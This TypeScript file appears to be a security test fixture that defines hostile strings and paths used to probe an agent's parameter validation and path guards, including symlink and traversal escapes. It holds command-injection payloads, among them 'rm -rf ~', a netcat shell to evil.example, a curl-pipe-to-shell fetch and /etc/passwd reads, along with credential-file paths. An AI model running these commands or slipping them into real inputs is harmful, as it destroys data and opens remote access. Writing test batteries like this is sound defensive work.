/**
 * The hostile strings of the battery, by category. Values that must name a place on disk use the
 * placeholders `{{show}}` (the node's one allowed root) and `{{outside}}` (a sibling folder it must
 * never reach); the stack replaces them once the temp folders exist, so case names stay readable.
 */

export type ValueCategory =
  | 'injection'
  | 'control'
  | 'option'
  | 'unicode'
  | 'url'
  | 'home'
  | 'traversal'
  | 'windows'
  | 'long'
  | 'empty';

export interface HostileString {
  /** Short and stable: it names the test case. */
  label: string;
  category: ValueCategory;
  value: string;
}

const hostile = (category: ValueCategory, label: string, value: string): HostileString => ({
  label,
  category,
  value,
});

/** Every one of these goes into every string param of every built-in action. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  hostile('injection', 'semicolon-rm', '; rm -rf ~'),
  hostile('injection', 'command-substitution', '$(id)'),
  hostile('injection', 'backticks', '`id`'),
  hostile('injection', 'pipe', 'x | nc evil.example 4444'),
  hostile('injection', 'and-chain', 'x && curl https://evil.example/p | sh'),
  hostile('injection', 'redirect', 'x > ~/.bashrc'),
  hostile('injection', 'ifs-expansion', '${IFS}cat${IFS}/etc/passwd'),
  hostile('injection', 'glob', '*'),
  hostile('injection', 'quotes', `x" '; exit 0; '"`),
  hostile('injection', 'python-exec', '__import__("os").system("id")'),
  hostile('injection', 'tcl-exec', '[exec id]'),
  hostile('control', 'newline', 'sh010\nid'),
  hostile('control', 'crlf', 'sh010\r\nX-Evil: 1'),
  hostile('control', 'nul', 'sh010\u0000.exr'),
  hostile('control', 'tab', 'sh010\tx'),
  hostile('control', 'ansi-escape', '\u001b[2J\u001b]0;pwned\u0007'),
  hostile('control', 'del', 'sh010\u007f'),
  hostile('option', 'dash-e', '-e'),
  hostile('option', 'double-dash-help', '--help'),
  hostile('option', 'dash-x', '-x'),
  hostile('option', 'dash-t', '-t'),
  hostile('option', 'rv-pyeval', '-pyeval'),
  hostile('option', 'nuke-flags', '-flags'),
  hostile('option', 'option-with-value', '--python=/tmp/x.py'),
  hostile('unicode', 'fullwidth-solidus', '／etc／passwd'),
  hostile('unicode', 'division-slash', '∕etc∕passwd'),
  hostile('unicode', 'rtl-override', 'sh010\u202Erxe.nk'),
  hostile('unicode', 'combining-chars', 's\u0336h\u0336010\u0301\u0301\u0301'),
  hostile('unicode', 'fullwidth-dash', '－e'),
  hostile('unicode', 'zero-width', 'sh\u200B010\uFEFF'),
  hostile('unicode', 'lone-surrogate', 'sh010\uD800'),
  hostile('url', 'file-url', 'file:///etc/passwd'),
  hostile('url', 'http-url', 'https://evil.example/x.exr'),
  hostile('home', 'tilde', '~/x'),
  hostile('home', 'tilde-user', '~root/.ssh/id_rsa'),
  hostile('traversal', 'dot-dot', '../../etc/passwd'),
  hostile('traversal', 'dot-dot-backslash', '..\\..\\Windows\\win.ini'),
  hostile('windows', 'drive', 'C:\\Windows\\System32'),
  hostile('windows', 'unc', '\\\\evil\\share\\x.exr'),
  hostile('long', 'long-5k', 'A'.repeat(5000)),
  hostile('long', 'long-100k', 'A'.repeat(100_000)),
  hostile('long', 'long-then-control', `${'a'.repeat(50_000)}\u0000`),
  hostile('empty', 'empty', ''),
];

/** What a path param value must come to on a Linux node whose only allowed root is `{{show}}`. */
export type PathVerdict =
  /** Not an absolute path at all, or one with control characters: 400 at the schema. */
  | 'malformed'
  /** Absolute on Windows only: 400 from the agent's guard, on this Linux node. */
  | 'foreign'
  /** Resolves outside allowed_paths: 403 PATH_NOT_ALLOWED. */
  | 'outside'
  /** Inside the root, with a hostile name that does not exist: the plugin refuses it (422) or stores it as text. */
  | 'inside-missing';

export interface HostilePath {
  label: string;
  verdict: PathVerdict;
  /** Build the value with the extension the param's pattern demands (`.nk`, `.rv`, or none). */
  build(ext: string): string;
}

const path = (label: string, verdict: PathVerdict, build: (ext: string) => string): HostilePath => ({
  label,
  verdict,
  build,
});

/**
 * How a path may reach a symlink: straight from the root, or after a `..` that follows a missing
 * folder (issue 11: the guard once applied that `..` as text and put back a link it never followed),
 * a missing folder two deep, an existing folder, or an existing then a missing one.
 */
export const LINK_PREFIXES: readonly (readonly [label: string, prefix: string])[] = [
  ['direct', '{{show}}'],
  ['after-missing', '{{show}}/nope/..'],
  ['after-missing-deep', '{{show}}/nope/deeper/../..'],
  ['after-existing', '{{show}}/sh010/..'],
  ['after-existing-then-missing', '{{show}}/sh010/nope/../..'],
];

/**
 * What lies behind the link, relative to the root (`edges.ts` builds the links): a file link, a
 * folder link itself, an existing file through a folder link, a file not there yet through one.
 * `link-out`, `escape-dir` and `escape` lead outside; `link-in`, `in-dir` and `inward` lead inside.
 */
export const LINK_TARGETS: readonly (readonly [
  label: string,
  build: (ext: string, dir: 'out' | 'in') => string,
])[] = [
  ['file-link', (ext, dir) => `link-${dir}${ext}`],
  ['dir-link', (ext, dir) => `${dir === 'out' ? 'escape' : 'in'}-dir${ext}`],
  ['file-in-dir-link', (ext, dir) => (dir === 'out' ? `escape/secret${ext}` : `inward/plate${ext}`)],
  ['new-file-in-dir-link', (ext, dir) => `${dir === 'out' ? 'escape' : 'inward'}/new${ext}`],
];

function linkEscapes(): HostilePath[] {
  return LINK_PREFIXES.flatMap(([prefixLabel, prefix]) =>
    LINK_TARGETS.map(([targetLabel, build]) =>
      path(`link-escape-${prefixLabel}-${targetLabel}`, 'outside', (ext) => `${prefix}/${build(ext, 'out')}`),
    ),
  );
}

/** Absolute and nearly-absolute paths: escapes, symlinks, foreign forms, look-alike separators. */
export const HOSTILE_PATHS: readonly HostilePath[] = [
  path('windows-drive', 'foreign', (ext) => `C:\\Windows\\System32\\evil${ext}`),
  path('windows-drive-slash', 'foreign', (ext) => `C:/Windows/System32/evil${ext}`),
  path('unc', 'foreign', (ext) => `\\\\evil\\share\\x${ext}`),
  path('unc-forward-slashes', 'malformed', (ext) => `//evil/share/x${ext}`),
  path('file-url', 'malformed', (ext) => `file://{{show}}/sh010/comp/plate${ext}`),
  path('tilde', 'malformed', (ext) => `~/x${ext}`),
  path('relative-dot-dot', 'malformed', (ext) => `../../outside/secret${ext}`),
  path('nul-inside', 'malformed', (ext) => `{{show}}/sh010/comp/plate\u0000${ext}`),
  path('newline-inside', 'malformed', (ext) => `{{show}}/sh010/comp/x\n/etc/passwd${ext}`),
  path('over-4096', 'malformed', (ext) => `{{show}}/${'a'.repeat(5000)}${ext}`),
  path('fullwidth-root', 'malformed', (ext) => `／etc／evil${ext}`),
  path('dot-dot-escape', 'outside', (ext) => `{{show}}/../outside/secret${ext}`),
  path('deep-dot-dot-escape', 'outside', (ext) => `{{show}}/sh010/comp/../../../outside/secret${ext}`),
  path('dot-dot-through-missing', 'outside', (ext) => `{{show}}/nope/../../outside/secret${ext}`),
  path('outside-root', 'outside', (ext) => `{{outside}}/secret${ext}`),
  path('system-file', 'outside', (ext) => `/etc/hostile${ext}`),
  path('prefix-sibling', 'outside', (ext) => `{{show}}-evil/secret${ext}`),
  path(
    'dot-dot-through-file',
    'outside',
    (ext) => `{{show}}/sh010/comp/plate.exr/../../../../outside/secret${ext}`,
  ),
  path('backslash-dot-dot', 'outside', (ext) => `{{show}}\\..\\outside\\secret${ext}`),
  path('symlinked-folder', 'outside', (ext) => `{{show}}/escape/secret${ext}`),
  path('symlinked-file', 'outside', (ext) => `{{show}}/link-out${ext}`),
  path('dangling-symlink', 'outside', (ext) => `{{show}}/dangling${ext}`),
  path('symlink-loop', 'outside', (ext) => `{{show}}/loop${ext}`),
  path(
    'name-too-long',
    'outside',
    (ext) => `{{show}}/sh010/${'n'.repeat(300)}/../../../outside/secret${ext}`,
  ),
  path('proc-self-root-outside', 'outside', (ext) => `/proc/self/root{{outside}}/secret${ext}`),
  path('in-root-semicolon', 'inside-missing', (ext) => `{{show}}/sh010/; rm -rf ~${ext}`),
  path('in-root-substitution', 'inside-missing', (ext) => `{{show}}/sh010/$(id)${ext}`),
  path('in-root-backticks', 'inside-missing', (ext) => `{{show}}/sh010/\`id\`${ext}`),
  path('in-root-pipe', 'inside-missing', (ext) => `{{show}}/sh010/x | nc evil 4444${ext}`),
  path('in-root-dash-name', 'inside-missing', (ext) => `{{show}}/-e${ext}`),
  path(
    'in-root-fullwidth-escape',
    'inside-missing',
    (ext) => `{{show}}/sh010／..／..／outside／secret${ext}`,
  ),
  path(
    'in-root-division-slash-escape',
    'inside-missing',
    (ext) => `{{show}}/sh010∕..∕..∕outside∕secret${ext}`,
  ),
  path('in-root-rtl-override', 'inside-missing', (ext) => `{{show}}/sh010/\u202Egpj.exe${ext}`),
  path('in-root-combining-dots', 'inside-missing', (ext) => `{{show}}/sh010/.\u0338./x${ext}`),
  ...linkEscapes(),
];

/** Option-like flags of RV and Nuke that a value must never turn into. */
export const OPTION_VALUES = HOSTILE_STRINGS.filter((h) => h.category === 'option').map((h) => h.value);

/** Replace `{{show}}` and `{{outside}}` in every string of a JSON value. */
export function materialize<T>(value: T, dirs: { show: string; outside: string }): T {
  const fill = (v: unknown): unknown => {
    if (typeof v === 'string')
      return v.replaceAll('{{show}}', dirs.show).replaceAll('{{outside}}', dirs.outside);
    if (Array.isArray(v)) return v.map(fill);
    if (typeof v === 'object' && v !== null) {
      return Object.fromEntries(Object.entries(v).map(([k, item]) => [k, fill(item)]));
    }
    return v;
  };
  return fill(value) as T;
}
